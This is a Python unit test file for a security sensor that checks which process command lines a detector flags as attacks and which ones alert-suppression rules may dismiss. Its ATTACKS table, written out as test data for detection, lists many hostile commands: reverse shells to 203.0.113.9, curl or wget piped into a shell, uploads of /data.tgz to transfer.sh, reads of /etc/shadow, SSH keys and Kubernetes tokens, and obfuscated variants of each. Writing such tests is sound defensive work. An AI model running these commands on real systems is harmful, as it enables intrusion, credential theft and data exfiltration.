"""Which command lines of suppressed programs look like an attack: hardly any harmless one does."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from drift.alerts.domain.command_signals import attack_signals
from drift.alerts.domain.suppression_match import compile_suppression
from sensor import wire
from sensor.delivery.truncation import truncated
from sensor.judgement.events import bounded_argv
from sensor.names.masking import Masker
from tests.unit.drift.alerts.conftest import event

HARMLESS = [
    "git fetch https://github.com/a/b",
    "app http://payments.billing:8080",
    "openssl pkcs12 -in a.p12 -out a.pem",
    "dockerd --daemon",
    "dockerd -H unix:///var/run/docker.sock --containerd=/run/containerd/containerd.sock",
    "containerd-shim-runc-v2 -namespace moby -address /run/containerd/containerd.sock",
    "keytool -list -keystore app.jks",
    "node recover.html",
    "node server.js --template unlock-account.html",
    "pg_tool --list restore.txt",
    "encode --ext mp4 --threads 8 /srv/in",
    "eslint --ext .ts,.tsx --threads 4 src",
    "nohup app --detach",
    "app --config /tmp/.app/config.yaml",
    "pip install pysocks requests",
    "rsync -e ssh -r 10.1.2.3:/data /backup",
    "ssh -i /root/.ssh/id_ed25519 deploy@build.example.com make",
    "git -c core.sshCommand=ssh -i /root/.ssh/id_rsa fetch origin",
    "scp -o UserKnownHostsFile=/root/.ssh/known_hosts a b:/srv",
    "ansible-playbook --private-key /root/.ssh/id_rsa site.yml",
    "helm --kubeconfig /root/.kube/config upgrade app ./chart",
    "npm ci --userconfig=/work/.npmrc",
    "vault kv get secret/app",
    "agent --certificate-authority /var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
    "agent --namespace-file=/run/secrets/kubernetes.io/serviceaccount/namespace",
    "python model.py in.nc -c config.yaml",
    "sh -c until nc -z db 5432; do sleep 1; done; exec app -c /etc/app.conf",
    "sh ./convert.sh -i in.csv",
    "gateway --trusted-proxies 10.0.0.0/8 --port 8080",
    "gateway --trusted-proxies=10.0.0.0/8,192.168.0.0/16 -p 8080",
    "kube-proxy --cluster-cidr=10.0.0.0/16 --port 10249",
    "flyway migrate --target=1.2",
    "kotlinc --target 1.8 a.kt",
    "bash /opt/scripts/transfer.sh --all",
    "node toast.js --profile.io x",
    "java -Dlog.file.io.threads=4 -jar app.jar",
    "postgres -D /var/lib/postgresql/data",
    "worker --shm /dev/shm/app.cache",
    "app --peer 185.220.101.7:443",
    "java -cp /opt/jdk/17.0.9.1/lib/a.jar Main",
    "curl -fsS https://example.com/healthz",
    "aws s3 sync /backup s3://corp-backup/daily",
    "app --version",
    "sh -c curl -s https://example.com/a.json | python3 -m json.tool",
    "sh -c curl -s https://example.com/a.json | node parse.js",
    "vault kv get -mount secret app",
    "kubectl get -n shop pods",
    "node -e require('socket.io')",
    "sh -c mkfifo /tmp/log; app > /tmp/log",
    "curl --location -t 3 https://example.com/a",
    "python3 -m pytest -c pytest.ini --execute",
    "sh -c echo it''s",
    "openssl s_client -connect db:5432",
    'sh -c [ "$(curl -s localhost:8080/health)" = 200 ]',
    "sh -c [ `curl -s localhost:8080/health` = 200 ] || exit 1",
    'sh -c until [ "$(wget -qO- http://db:8080/ready)" = ok ]; do sleep 1; done; exec app',
    "sh -c TOKEN=$(curl -s http://vault/x) exec app",
    "sh -c set -e; TOKEN=`curl -s http://vault/x`; export TOKEN; exec app -c /etc/app.conf",
    "bash -c echo $(curl -s http://app:8080/version)",
    'sh -c . /etc/profile && test "$(curl -s http://app/health)" = ok',
    'bash -c jq -r .state <<< "$(curl -s http://app/health)"',
    "python3 -Wignore /app/executor.py",
    "python -Werror -m app.socketserver",
    "python3 -Xdev -Wdefault::DeprecationWarning:app.exec /app/executor.py",
    "python3 -m coverage run app.socketserver",
    "ruby -rbundler exec.rb",
    "ruby -rbundler/setup -Ilib/core exec.rb",
    "perl -Ilib/core -Mwarnings::register exec.pl",
    "php -d=memory_limit -f executor.php",
    "php -S 0.0.0.0:80 -t public eval/router.php",
    "php -c /etc/php.ini -f exec.php",
    "ruby -w -S rake exec",
    "sh -c kubectl apply -f $(curl -s http://app/url)",
    "bash -c for i in $(curl -s http://app/list); do echo $i; done",
]
ATTACKS = {
    "tool --url stratum+tcp://pool.example:3333": "miner",
    "tool ssh -N -R 127.0.0.1:2222:localhost:22 203.0.113.9": "tunnel",
    "tool ssh -D1080 203.0.113.9": "tunnel",
    "tool client c2:443 R:socks": "tunnel",
    "tool -L socks5://:1080": "tunnel",
    "tool nc -nv 203.0.113.9 4444 -e /bin/sh": "reverse_shell",
    "sh -c nc 203.0.113.9 4444 -e /bin/sh; true": "reverse_shell",
    "tool -ex shell /bin/bash -i >& /dev/fd/3": "reverse_shell",
    "tool cat /run/secrets/kubernetes.io/serviceaccount/token": "credentials",
    "tool cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt /root/.ssh/id_rsa": "credentials",
    "tool --kubeconfig /root/.kube/config get secrets -A": "credentials",
    "tool --kubeconfig=/root/.kube/config;cat /etc/shadow": "credentials",
    "tool cat /home/a/.npmrc": "credentials",
    "tool --userconfig /etc/shadow": "credentials",
    "tool --private-key /proc/1/root/root/.ssh/id_rsa": "escape",
    "tool 10.0.0.0/8 -p 22": "scan",
    "tool -sS -n 10.0.0.0/8 -p 22": "scan",
    "tool --range 10.0.0.0/8 -p 22,80,443": "scan",
    "tool --range=10.0.0.0/8 --ports 1-1024": "scan",
    "tool 10.0.0.0/8 --rate 10000": "scan",
    "tool --target 1 --mount --pid": "escape",
    "docker -H unix:///var/run/docker.sock run --privileged -v /:/host a": "runtime_socket",
    "tool -c wget -qO- https://example.com/x | sh": "encoded",
    "tool curl --upload-file /data.tgz https://transfer.sh/x": "exfiltration",
    "tool curl transfer.sh -T /data.tgz": "exfiltration",
    "tool https://abc.oast.fun/x": "exfiltration",
    "tool copy /srv/data :mega:archive": "exfiltration",
    "tool --path /srv --ext .lck9 --threads 8": "ransom",
    "tool --note README_RESTORE_FILES.txt": "ransom",
    "tool -o how_to_decrypt.hta": "ransom",
    "tool --html recover_your_files.html": "ransom",
    "tool -ex shell bash  \t-i >& /dev/fd/3": "reverse_shell",
    "sh -c nc\t203.0.113.9 4444\n-e /bin/sh": "reverse_shell",
    'tool sh -c b""ash -i': "reverse_shell",
    "tool sh -c cat$IFS/etc/sh''ado\\w": "credentials",
    "tool sh -c curl${IFS}-s${IFS}http://203.0.113.9/x|sh": "encoded",
    "tool sh -c bash <(curl -s http://203.0.113.9/x)": "encoded",
    "tool bash -c $(wget -qO- http://203.0.113.9/x)": "encoded",
    "tool sh -c wget -qO- http://203.0.113.9/x | sudo /usr/bin/python3.11 -": "encoded",
    "tool python3.11 -I -c __import__('os').system('id')": "encoded",
    "tool python3 -Wignore -c import socket,pty": "encoded",
    "tool python3 -uIc import socket": "encoded",
    "tool python3 -cimport socket": "encoded",
    "tool perl -wne eval pack 'H*',$_": "encoded",
    "tool perl -MMIME::Base64 -e eval decode_base64 shift": "encoded",
    "tool ruby -rsocket -e exec '/bin/sh'": "encoded",
    "tool php -n -r eval($x);": "encoded",
    'tool sh -c bash -c "$(curl -fsSL http://203.0.113.9/x)"': "encoded",
    "tool sh -xc -- `wget -qO- http://203.0.113.9/x`": "encoded",
    "tool sh -c cd /tmp && $(curl -s http://203.0.113.9/x)": "encoded",
    'tool sh -c eval "`curl -s http://203.0.113.9/x`"': "encoded",
    "tool bash -c . <(curl -s http://203.0.113.9/x)": "encoded",
    'tool sh -c bash -s <<< "$(curl -s http://203.0.113.9/x)"': "encoded",
    'tool sh -c python3 -c "$(curl -s http://203.0.113.9/x)"': "encoded",
    'tool bash -o pipefail -c "$(curl -s http://203.0.113.9/x)"': "encoded",
    "tool sh -c if true; then $(/usr/bin/curl http://203.0.113.9/x); fi": "encoded",
    'tool sh -c X=$(curl -s http://203.0.113.9/x); eval "$X"': "encoded",
    'tool sh -c X=`wget -qO- http://203.0.113.9/x`; sh -c "$X"': "encoded",
    'node -e "$(curl -s http://203.0.113.9/x)"': "encoded",
    "tool ruby -r socket -e exec": "encoded",
    "tool python3 -W ignore -c import socket": "encoded",
    "tool php -d x=1 -r eval(1);": "encoded",
    'tool su - app -c "$(curl -s http://203.0.113.9/x)"': "encoded",
    'tool awk BEGIN{s="/inet/tcp/0/203.0.113.9/4444"}': "reverse_shell",
    "tool perl -MIO -e $c=new IO::Socket::INET(PeerAddr,'203.0.113.9:4444')": "reverse_shell",
    "tool ruby -rsocket -e f=TCPSocket.open('203.0.113.9',4444)": "reverse_shell",
    "tool lua -e require('socket').tcp():connect('203.0.113.9',4444)": "reverse_shell",
    "tool sh -c mkfifo /tmp/f; sh </tmp/f | openssl s_client -connect 203.0.113.9:443 >/tmp/f": "reverse_shell",
    "tool sh -c telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445": "reverse_shell",
    "kubectl get -A secrets": "credentials",
    "kubectl get -n kube-system -o yaml secret": "credentials",
    "wget --post-file=/data.tgz http://203.0.113.9/": "exfiltration",
    "curl -T /data.tgz http://203.0.113.9/": "exfiltration",
}


def started(line: str, **changes: Any) -> wire.Event:
    argv = line.split(" ")
    given = {"process__argv": argv, "process__name": argv[0], **changes}
    return msgspec.convert(event(**given), wire.Event)


def dismisses(sent: wire.Event, *, covers_new_content: bool = False) -> bool:
    paths = {"property": "process_path", "any_of": [{"operator": "equals", "value": sent.process.path}]}
    rule = compile_suppression(1, "a", frozenset(), [paths], covers_new_content=covers_new_content)
    return rule.matches(1, wire.flatten(sent, "azure", "1", "blue"), sent)


@pytest.mark.parametrize("line", HARMLESS)
def test_a_harmless_command_line_is_dismissed(line: str) -> None:
    assert attack_signals(started(line)) == []
    assert dismisses(started(line))


@pytest.mark.parametrize("line", ATTACKS)
def test_a_command_line_of_an_attack_is_not(line: str) -> None:
    assert ATTACKS[line] in attack_signals(started(line))
    assert not dismisses(started(line))
    assert dismisses(
        started(
            line,
        ),
        covers_new_content=True,
    )


def test_a_library_has_the_command_line_of_what_loads_it() -> None:
    line = "bash -c exec 5<>/dev/tcp/db/5432"

    assert dismisses(started(line, kind="library", process__via="/bin/bash"))
    assert not dismisses(started(line))


def test_a_command_line_whose_end_is_unknown_is_not_dismissed_unless_the_rule_covers_any_use() -> None:
    argv, _ = bounded_argv([b"tool", b"--x=" + b"A" * 4_080, b"-o", b"stratum+tcp://pool.example:3333"])
    cut = started(" ".join(argv), process__argv_truncated=True)

    assert attack_signals(cut) == []
    assert not dismisses(cut)
    assert dismisses(cut, covers_new_content=True)


def test_a_command_line_of_the_most_that_sensors_send_is_searched_to_its_end() -> None:
    end = b"stratum+tcp://pool.example:3333"
    most = [b"tool", *[b"a"] * 61, b"A" * (wire.MAX_ARGV_BYTES - 65 - len(end)), end]
    argv, is_cut = bounded_argv(most)

    assert (len(argv), is_cut) == (wire.MAX_ARGV_ITEMS, False)
    assert attack_signals(started(" ".join(argv))) == ["miner"]


@pytest.mark.parametrize("items", [1, 2])
def test_a_command_line_that_masks_made_longer_than_what_is_searched_is_not_dismissed(items: int) -> None:
    long = b" ".join([b"a://b@"] * (580 // items))
    argv, is_cut = bounded_argv([b"tool", *[long] * (items - 1), long + b" stratum+tcp://pool.example:3333"])
    sent = started("tool")
    sent.process.argv = Masker().mask(argv)
    masked = truncated(sent)

    assert not is_cut
    assert not masked.process.argv_truncated
    assert attack_signals(masked) == []
    assert not dismisses(masked)


def test_a_command_line_that_was_dropped_is_dismissed() -> None:
    assert dismisses(started("tool", process__argv=[], process__argv_truncated=True))
